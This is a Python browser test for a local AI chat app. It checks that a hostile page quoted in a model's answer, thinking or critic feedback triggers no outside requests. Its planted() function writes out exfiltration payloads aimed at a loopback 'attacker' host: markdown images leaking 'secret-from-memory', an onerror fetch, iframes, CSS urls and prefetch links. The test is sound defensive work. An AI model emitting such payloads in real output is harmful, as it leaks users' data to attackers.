"""Nothing in an answer loads by itself: checked in real chromium against a real attacker server.

The model's answer (and its thinking, and the critic's feedback) quote a hostile page:
markdown and reference images, raw ``<img>``, ``<iframe>``, ``<object>``, ``<video>``, CSS
``url()`` in a style attribute and a ``<style>`` block, and link prefetch hints. They point
at a real HTTP server on loopback that counts every request. One image on an allow-listed
host is the control: it must load, proving the browser would have fetched the others.
"""

from __future__ import annotations

import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from langchain_core.messages import AIMessage

from local2.models._scripted import ScriptedChatModel, reply
from local2.service.agent import Agent
from tests.kit.browser import (
    BROWSER_MARKS,
    app_served,
    ask,
    open_page,
    wait_text,
)
from tests.kit.helpers import make_settings, screenshot_path

pytestmark = BROWSER_MARKS

PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082"
)


class Attacker:
    """A loopback HTTP server that records every path requested from it."""

    def __init__(self) -> None:
        hits = self.hits = []

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                hits.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/png")
                self.send_header("Content-Length", str(len(PNG)))
                self.end_headers()
                self.wfile.write(PNG)

            def log_message(self, *args: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def planted(port: int) -> str:
    """A hostile page's tricks, as a model quoting it would write them."""
    a = f"http://attacker.localhost:{port}"
    b = f"http://127.0.0.1:{port}"
    return "\n".join(
        [
            "Here is what the page says. MARKER-ANSWER",
            f"![chart]({a}/md-image?d=secret-from-memory)",
            f'![alt with title]({b}/md-image-title "title")',
            "![reference image][r]",
            f'<img src="{b}/raw-img">',
            f'<img src="x" onerror="fetch(\'{b}/onerror\')">',
            f'<iframe src="{b}/iframe"></iframe>',
            f'<object data="{b}/object"></object>',
            f'<video src="{b}/video" autoplay></video>',
            f'<div style="background-image:url({b}/css-attr)">styled</div>',
            f"<style>body {{ background: url({b}/css-block) }}</style>",
            f'<link rel="prefetch" href="{b}/prefetch">',
            f'<link rel="preload" as="image" href="{b}/preload">',
            f'<link rel="stylesheet" href="{b}/stylesheet.css">',
            f"<svg><image href='{b}/svg-image'/></svg>",
            f"Control: ![allowed](http://allowed.localhost:{port}/allowed.png)",
            "",
            f"[r]: {b}/ref-image",
        ]
    )


@pytest.fixture
def attacker() -> Iterator[Attacker]:
    server = Attacker()
    yield server
    server.close()


class PlantingCritic:
    """A critic whose feedback quotes the page too (it is model text as well)."""

    def __init__(self, text: str) -> None:
        self.text = text

    def grade(self, *args: Any, **kwargs: Any) -> dict[str, Any]:
        return {"score": 2, "feedback": self.text, "flags": []}


def test_planted_images_frames_css_and_prefetch_cause_no_request(
    attacker: Attacker, tmp_path: Path, browser: Any
) -> None:
    text = planted(attacker.port)
    answer: AIMessage = reply(text, thinking=f"Thinking about it. {text}")
    settings = make_settings(tmp_path, ui={"image_hosts": [f"allowed.localhost:{attacker.port}"]})
    agent = Agent(
        settings,
        chat_model=ScriptedChatModel(replies=[answer], repeat_last=True),
        tools=[],
        memory=None,
        critic=PlantingCritic(text.replace("MARKER-ANSWER", "MARKER-CRITIC")),
    )
    with app_served(agent) as url:
        page = open_page(browser, url)
        seen: list[str] = []
        page.on("request", lambda request: seen.append(request.url))
        ask(page, "What does the page say?")
        wait_text(page, "#local2-chat", "MARKER-ANSWER")
        wait_text(page, "#local2-chat", "Critic: 2/5")  # graded; the section may be open or not
        page.locator("#local2-chat [role=button]").filter(has_text="Thinking").first.click()
        # a grade's redraw may close the section again: open it till shown (a loaded machine
        # redraws late, so by time, not by a count of tries)
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline:
            if "MARKER-CRITIC" in page.inner_text("#local2-chat"):
                break
            page.locator("#local2-chat [role=button]").filter(has_text="Critic").first.click()
            page.wait_for_timeout(1000)
        wait_text(page, "#local2-chat", "MARKER-CRITIC")
        wait_text(page, "#local2-chat", "Thinking about it.")
        page.wait_for_function(
            "() => [...document.querySelectorAll('#local2-chat img')]"
            ".some(i => i.src.includes('allowed.png') && i.complete)"
        )
        page.wait_for_timeout(1500)  # time for any lazy or deferred load to fire
        page.screenshot(path=str(screenshot_path("21-planted-answer")))
        chat = page.inner_text("#local2-chat")
        page.context.close()
    agent.close()

    app_origin = urlsplit(url).netloc
    foreign = [u for u in seen if urlsplit(u).netloc not in ("", app_origin)]
    allowed = [u for u in foreign if "/allowed.png" in u]
    assert allowed, "the control image did not load: the test could not see a load"
    assert [u for u in foreign if u not in allowed] == []
    assert set(attacker.hits) == {"/allowed.png"}, attacker.hits
    # What was planted is visible as text or links, with the host named.
    assert "image: chart (attacker.localhost)" in chat
    assert "<iframe" in chat and "<img" in chat  # shown, not rendered
